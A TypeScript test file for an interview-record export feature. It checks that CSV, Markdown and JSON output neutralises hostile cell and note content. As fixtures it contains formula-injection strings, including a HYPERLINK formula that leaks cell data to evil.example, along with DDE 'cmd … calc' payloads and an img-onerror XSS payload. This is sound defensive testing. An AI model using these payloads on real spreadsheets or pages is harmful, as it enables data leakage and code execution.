// Export builders: CSV quoting and formula injection, Chinese, time zones, Markdown escaping, JSON IDs,
// and Copy as Markdown. Every CSV is read back with a strict parser (csv-parse).
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { formatOnly as t } from '../../src/feishu/translate';
import { parseInterview } from '../../src/feishu/validate';
import { csvDocument, csvField } from '../../src/model/export/csv';
import { toCsv, toExportJson, toMarkdown, type ExportOptions, type ExportRow } from '../../src/model/export/interviewExport';
import { interviewMarkdown } from '../../src/model/export/interviewMarkdown';
import { isoInZone } from '../../src/model/text/isoTime';
import { mdCell, mdQuote, mdText } from '../../src/model/text/markdownText';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\tleading tab',
  '\rleading CR',
  '＝1+1',
  'a,b',
  'say "hi"',
  'two\nlines',
  'crlf\r\nend',
  ' padded ',
  '代码还行，只是不够聪明',
  '😀 emoji',
  '',
];

const readCsv = (text: string): string[][] => parse(text, { bom: true, relax_column_count: false }) as string[][];

describe('CSV', () => {
  test('every hostile cell survives a strict parser, and none starts a formula', () => {
    const rows = HOSTILE.map(cell => ['x', cell]);
    const text = csvDocument(['a', 'b'], rows);
    assert.ok(text.startsWith('\uFEFFa,b\r\n'));
    const back = readCsv(text);
    assert.equal(back.length, rows.length + 1);
    HOSTILE.forEach((cell, i) => {
      const got = back[i + 1]![1]!;
      if (/^[=+\-@\t\r＝]/.test(cell)) {
        assert.equal(got, `'${cell}`, JSON.stringify(cell));
      } else {
        assert.equal(got, cell, JSON.stringify(cell));
      }
      assert.doesNotMatch(got, /^[=+\-@\t\r]/, JSON.stringify(got));
    });
  });

  test('a formula behind NUL or whitespace, which spreadsheets strip before reading, is made inert too (#18.11)', () => {
    for (const cell of ['\u0000=cmd|"/c calc"!A1', ' =1+1', '  +1', '\n-2+3', '\u3000＠SUM(A1)', '\u00a0=1', '\u0000\u0000@x']) {
      const back = readCsv(csvDocument(['a'], [[cell]]))[1]![0]!;
      assert.equal(back, `'${cell}`, JSON.stringify(cell));
    }
    assert.equal(csvField(' padded '), '" padded "', 'whitespace alone is no formula');
  });

  test('quoting only where needed; quotes doubled', () => {
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField('中文'), '中文');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('a;b'), '"a;b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('x\ny'), '"x\ny"');
    assert.equal(csvField('=1+1'), '\'=1+1');
    assert.equal(csvField('-1,5'), `"'-1,5"`);
    assert.equal(csvField('\tx'), `"'\tx"`);
  });
});

const interview = parseInterview({
  id: '7100000000000000001',
  begin_time: Date.UTC(2021, 3, 20, 15, 45),
  end_time: Date.UTC(2021, 3, 20, 16, 30),
  round: 1,
  stage_id: '42',
  interview_record_list: [{
    id: '7100000000000000011',
    user_id: 'ou_1',
    content: '=cmd|\' /C calc\'!A0\n代码还行，只是不够聪明',
    conclusion: 1,
    commit_status: 1,
    min_job_level_id: 'mlevel5',
    max_job_level_id: 'mlevel7',
    interview_score: { id: 's', level: 3, zh_name: '3', zh_description: '通过', en_name: 'three', en_description: 'Pass' },
  }, {
    id: '7100000000000000012',
    user_id: 'ou_2',
    content: '<img src=x onerror=alert(1)> [link](http://evil.example) | # heading',
    conclusion: 4,
    commit_status: 2,
  }],
}, 'item');

const rows: ExportRow[] = interview.interview_record_list.map((record, i) => ({
  applicationId: '6949805467799537964',
  candidate: '张伟',
  job: '高级前端工程师',
  interview,
  record,
  names: { interviewer: i === 0 ? '李娜' : '@Sarah', stage: '初试', minLevel: i === 0 ? 'P5 级' : undefined, maxLevel: i === 0 ? 'P7 级' : undefined },
}));

const options: ExportOptions = { t, lang: 'zh', locale: 'zh-cn', timeZone: 'Asia/Shanghai', title: '张伟 · 高级前端工程师' };

describe('export builders', () => {
  test('CSV: one row per record, Chinese intact, times in the zone and as ISO with offset, formulas inert', () => {
    const back = readCsv(toCsv(rows, options));
    const [header, first, second] = back;
    assert.equal(back.length, 3);
    const col = (name: string): number => header!.indexOf(name);
    assert.equal(first![col('Candidate')], '张伟');
    assert.equal(first![col('Interviewer')], '李娜');
    assert.equal(second![col('Interviewer')], '\'@Sarah');
    assert.equal(first![col('Round')], '2');
    assert.equal(first![col('Start (ISO 8601)')], '2021-04-20T23:45:00+08:00');
    assert.equal(first![col('End (ISO 8601)')], '2021-04-21T00:30:00+08:00');
    assert.match(first![col('Start')]!, /2021年4月20日.*23:45 \(GMT\+8\)/);
    assert.equal(first![col('Suggested level from')], 'P5 级');
    assert.equal(second![col('Suggested level from')], '', 'no level given');
    assert.equal(first![col('Score level')], '3');
    assert.equal(first![col('Conclusion')], 'Pass');
    assert.equal(second![col('Commit status')], 'Not submitted');
    assert.equal(first![col('Notes')], '\'=cmd|\' /C calc\'!A0\n代码还行，只是不够聪明');
    assert.equal(first![col('Record ID')], '7100000000000000011');
  });

  test('ISO times carry the offset in force, across zones and DST', () => {
    assert.equal(isoInZone(Date.UTC(2021, 6, 1, 12), 'Europe/London'), '2021-07-01T13:00:00+01:00');
    assert.equal(isoInZone(Date.UTC(2021, 0, 1, 12), 'Europe/London'), '2021-01-01T12:00:00+00:00');
    assert.equal(isoInZone(Date.UTC(2021, 0, 1, 12), 'America/St_Johns'), '2021-01-01T08:30:00-03:30');
    assert.equal(isoInZone(undefined), '');
  });

  test('Markdown: a table whose server text is literal (no HTML, links or headings)', () => {
    const md = toMarkdown(rows, options);
    assert.ok(md.startsWith('# 张伟 · 高级前端工程师\n'));
    assert.match(md, /1 interviews, 2 records/);
    const lines = md.trim().split('\n');
    const table = lines.filter(l => l.startsWith('|'));
    assert.equal(table.length, 4);
    const cells = (line: string): number => line.split(/(?<!\\)\|/).length;
    assert.ok(table.every(l => cells(l) === cells(table[0]!)), 'an escaped | never splits a cell');
    assert.doesNotMatch(md, /(?<!\\)<img/);
    assert.doesNotMatch(md, /(?<!\\)\[link\]/);
    assert.match(md, /\\<img src=x onerror=alert\(1\)\\>/);
    assert.match(md, /代码还行/);
  });

  test('Markdown escaping helpers', () => {
    assert.equal(mdText('# not a heading'), '\\# not a heading');
    assert.equal(mdText('- not a list'), '\\- not a list');
    assert.equal(mdText('1. not a list'), '1\\. not a list');
    assert.equal(mdText('**bold** _x_ `code` ~s~ &amp;'), '\\*\\*bold\\*\\* \\_x\\_ \\`code\\` \\~s\\~ \\&amp;');
    assert.equal(mdCell('a|b\nc'), 'a\\|b<br>c');
    assert.equal(mdQuote('one\n\n> two'), '> one\n>\n> \\> two');
  });

  test('JSON: IDs as strings, codes beside labels, level IDs with names', () => {
    const json = JSON.parse(toExportJson(rows, options)) as Record<string, unknown>[];
    assert.equal(json.length, 2);
    assert.equal(json[0]!['record_id'], '7100000000000000011');
    assert.equal(json[0]!['conclusion'], 1);
    assert.equal(json[0]!['conclusion_label'], 'Pass');
    assert.deepEqual(json[0]!['min_job_level'], { id: 'mlevel5', name: 'P5 级' });
    assert.equal(json[0]!['begin_time_iso'], '2021-04-20T23:45:00+08:00');
    assert.equal(json[1]!['min_job_level'], undefined);
  });

  test('Copy as Markdown: an interview with every interviewer, notes quoted literally', () => {
    const md = interviewMarkdown(rows, options);
    assert.match(md, /^## Round 2 · /);
    assert.match(md, /张伟 · 高级前端工程师 · 初试/);
    assert.match(md, /### 李娜 — Pass/);
    assert.match(md, /\*\*Suggested level:\*\* P5 级 to P7 级/);
    assert.match(md, /> \\=cmd\\\|' \/C calc'!A0\n> 代码还行/);
    assert.match(md, /### @Sarah — Not submitted/);
    assert.match(md, /> \\<img src=x onerror=alert\(1\)\\> \\\[link\\\]\(http:\/\/evil.example\) \\\| # heading/);
    const one = interviewMarkdown([rows[1]!], options);
    assert.doesNotMatch(one, /李娜/);
  });
});
